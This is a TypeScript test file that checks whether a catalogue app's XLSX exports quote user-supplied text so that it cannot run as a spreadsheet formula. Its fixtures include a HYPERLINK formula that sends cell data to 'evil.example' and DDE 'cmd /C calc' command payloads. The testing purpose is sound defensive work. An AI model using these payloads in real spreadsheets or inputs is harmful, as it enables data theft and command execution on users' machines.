import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExcelJS } from '../adapters/exceljs.js';
import { startTestApp, type TestApp } from '../testing/http-app.js';
import { SEED, seedSelection } from '../testing/selection-seed.js';

/*
 * HOSTILE TESTS (issue 9): spreadsheet formula injection. Whatever a person typed into the
 * catalogue (a title, a search, the unit name or approver asked for at export) must reach the
 * exported XLSX as text: no cell may start with = + - @ (or a tab/CR before one) unquoted.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
const TRIGGER = /^[=+\-@\t\r]/;

async function xlsxCells(bytes: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((c) => {
        expect(c.formula, String(c.value)).toBeUndefined();
        cells.push(typeof c.value === 'string' ? c.value : String(c.value));
      }),
    );
  return cells;
}

describe('hostile: formula injection in the XLSX exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp('duphong-hostile-exports-');
    await seedSelection(t.ctx.catalogue);
    for (const [code, title] of [
      [SEED.recognised, FORMULAS[0]!],
      [SEED.rotting, FORMULAS[1]!],
    ] as const) {
      const file = (await t.ctx.catalogue.records.getFile(code))!;
      await t.ctx.catalogue.records.putFile({ ...file, title, fields: { ...file.fields, title } });
    }
  });
  afterAll(async () => {
    await t?.close();
  });

  it('the backup list (danh mục) export quotes every cell that would run as a formula', async () => {
    const created = await t.call('POST', '/api/backup-lists', { unitId: '15', year: 2026, by: '=cmd|" /C calc"!A0' });
    expect(created.status).toBe(201);
    const id = created.body.list.id as string;
    const proposed = await t.call('POST', `/api/backup-lists/${id}/propose`, { by: '@An', fondsCode: SEED.fonds });
    expect(proposed.status).toBe(200);
    const q = new URLSearchParams({ format: 'xlsx', unitName: FORMULAS[2]!, approver: FORMULAS[3]! });
    const res = await t.app.inject({ method: 'GET', url: `/api/backup-lists/${id}/export?${q}`, headers: t.admin });
    expect(res.statusCode).toBe(200);
    const cells = await xlsxCells(res.rawPayload);
    const dangerous = cells.filter((c) => TRIGGER.test(c));
    expect(dangerous).toEqual([]);
    // The text is all there, quoted, not lost.
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells.some((c) => c.includes(FORMULAS[2]!))).toBe(true);
  });

  it('the access log export quotes a search typed as a formula and a record code that looks like one', async () => {
    for (const f of FORMULAS) expect((await t.call('GET', `/api/search?q=${encodeURIComponent(f)}`)).status).toBe(200);
    const res = await t.app.inject({ method: 'GET', url: '/api/access-log/export', headers: t.admin });
    expect(res.statusCode).toBe(200);
    const cells = await xlsxCells(res.rawPayload);
    expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[2]}`);
  });
});
